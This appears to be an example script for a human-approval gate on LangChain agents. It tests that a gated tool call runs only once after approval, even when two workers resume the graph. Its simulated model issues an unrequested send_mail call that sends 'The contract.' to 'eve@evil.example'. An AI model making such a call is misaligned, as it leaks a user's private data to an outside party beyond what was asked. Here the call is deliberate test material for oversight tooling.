// Shows: an agent of LangChain behind the gate: a graph that is approved, and continued twice at the same time.
import { equal } from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BaseChatModel } from '@langchain/core/language_models/chat_models';
import { AIMessage, type BaseMessage } from '@langchain/core/messages';
import { tool } from '@langchain/core/tools';
import { MemorySaver } from '@langchain/langgraph';
import { createLangChainGate } from '@sekisho/langchain';
import { createAgent } from 'langchain';
import { z } from 'zod';

/** A model that sends a mail which the user did not ask for, and then writes a text. */
class SimulatedModel extends BaseChatModel {
  override _llmType() {
    return 'simulated';
  }
  override bindTools() {
    return this;
  }
  override async _generate(messages: BaseMessage[]) {
    const args = { to: 'eve@evil.example', body: 'The contract.' };
    const message =
      messages.at(-1)?.type === 'tool'
        ? new AIMessage('The mail was sent.')
        : new AIMessage({ content: '', tool_calls: [{ id: 'call_1', name: 'send_mail', args }] });
    return { generations: [{ text: message.text, message }] };
  }
}

const folder = mkdtempSync(join(tmpdir(), 'sekisho-langchain-example-'));
const sent: string[] = [];
const sendMail = tool(async ({ to }) => `Sent to ${sent.push(to)} person.`, {
  name: 'send_mail',
  description: 'Sends a mail.',
  schema: z.object({ to: z.string(), body: z.string() }),
});
const gate = createLangChainGate({
  store: { directory: folder },
  manifests: { send_mail: { effect: 'send', arguments: { to: 'recipient' } } },
});
const agent = createAgent({
  model: new SimulatedModel({}),
  tools: [sendMail],
  middleware: [gate.middleware], // The last middleware, so that it sees the calls that are executed.
  checkpointer: new MemorySaver(),
});

const config = { configurable: { thread_id: 'chat 1' } };
const userText = 'Please summarize the contract.';
await agent.invoke({ messages: [{ role: 'user', content: userText }] }, { ...config, context: { userText } });
equal(sent.length, 0); // The graph is interrupted.

const [request] = await gate.engine.getPendingApprovals();
await gate.engine.decide(request?.approval_id ?? '', 'approve', { by: { id: 'mika' } }); // In the console, for example.
await Promise.allSettled([agent.invoke(null, config), agent.invoke(null, config)]); // Two workers continue the graph.

equal((await gate.engine.verifyExecutionLog()).ok, true);
await gate.close();
rmSync(folder, { recursive: true });
equal(sent.length, 1);
console.log('The mail was sent once, after Mika approved it, although the graph was continued twice.');
